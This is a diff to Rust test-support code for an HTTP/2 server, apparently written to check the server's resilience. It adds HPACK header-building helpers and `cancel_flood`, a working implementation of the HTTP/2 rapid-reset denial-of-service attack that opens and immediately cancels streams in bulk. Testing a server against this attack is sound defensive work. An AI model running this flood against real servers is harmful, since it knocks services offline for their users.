@@ -5,10 +5,11 @@
 
 use std::net::SocketAddr;
 use std::sync::Arc;
+use std::time::{Duration, Instant};
 
 use common::pem::{PemFile, PemSource};
 use rustls::pki_types::ServerName;
-use tokio::io::{AsyncRead, AsyncReadExt};
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
@@ -162,10 +163,43 @@ pub fn grpc_request_headers(path: &str) -> Vec<u8> {
     block
 }
 
-/// An HPACK string literal, not Huffman-coded (7-bit prefix length; values
-/// here are shorter than 127 bytes).
+/// The HPACK block of `GET path` over plain HTTP (h2c) on `localhost`.
+pub fn get_request_headers(path: &str) -> Vec<u8> {
+    let mut block = vec![
+        0x82, // :method GET (static table 2)
+        0x86, // :scheme http (static table 6)
+        0x04, // :path, literal without indexing, name from the static table
+    ];
+    push_string(&mut block, path);
+    block.push(0x01); // :authority, the same
+    push_string(&mut block, "localhost");
+    block
+}
+
+/// `block` with one more field, `x-pad`, whose value is `pad` bytes long:
+/// a request head as large as the server allows.
+pub fn padded(mut block: Vec<u8>, pad: usize) -> Vec<u8> {
+    block.push(0x00); // literal without indexing, new name
+    push_string(&mut block, "x-pad");
+    push_string(&mut block, &"p".repeat(pad));
+    block
+}
+
+/// An HPACK string literal, not Huffman-coded: its length as an integer
+/// with a 7-bit prefix (RFC 7541 §5.1), then its bytes.
 fn push_string(block: &mut Vec<u8>, value: &str) {
-    block.push(u8::try_from(value.len()).unwrap_or(u8::MAX).min(0x7e));
+    let mut length = value.len();
+    if length < 0x7f {
+        block.extend(u8::try_from(length));
+    } else {
+        block.push(0x7f);
+        length -= 0x7f;
+        while length >= 0x80 {
+            block.push(0x80 | (length & 0x7f) as u8);
+            length >>= 7;
+        }
+        block.extend(u8::try_from(length));
+    }
     block.extend_from_slice(value.as_bytes());
 }
 
@@ -195,4 +229,45 @@ pub async fn h2_over_tls(addr: SocketAddr, pki: &Pki) -> SetupResult<TlsStream<T
     let tcp = TcpStream::connect(addr).await?;
     let name = ServerName::try_from("localhost")?;
     Ok(tls_connector(pki, &[b"h2"])?.connect(name, tcp).await?)
+}
+
+/// HTTP/2 error code CANCEL.
+pub const CANCEL: u32 = 0x8;
+
+/// The rapid-reset attack, for `period`: on a connection past its
+/// preface, opens stream after stream with the request head `block` and
+/// cancels each at once (RST_STREAM CANCEL). Returns how many streams it
+/// opened before `period` ran out or the server stopped reading.
+pub async fn cancel_flood(
+    mut writer: impl AsyncWrite + Unpin,
+    block: Vec<u8>,
+    period: Duration,
+) -> u32 {
+    let deadline = Instant::now() + period;
+    let mut sent = 0_u32;
+    while Instant::now() < deadline && sent < 1 << 29 {
+        let mut bytes = Vec::new();
+        for _ in 0..64 {
+            let stream = 2 * sent + 1;
+            let headers = Frame {
+                kind: kind::HEADERS,
+                flags: flag::END_HEADERS,
+                stream,
+                payload: block.clone(),
+            };
+            let cancel = Frame {
+                kind: kind::RST_STREAM,
+                flags: 0,
+                stream,
+                payload: CANCEL.to_be_bytes().to_vec(),
+            };
+            bytes.extend(headers.encode());
+            bytes.extend(cancel.encode());
+            sent += 1;
+        }
+        if writer.write_all(&bytes).await.is_err() {
+            break;
+        }
+    }
+    sent
 }
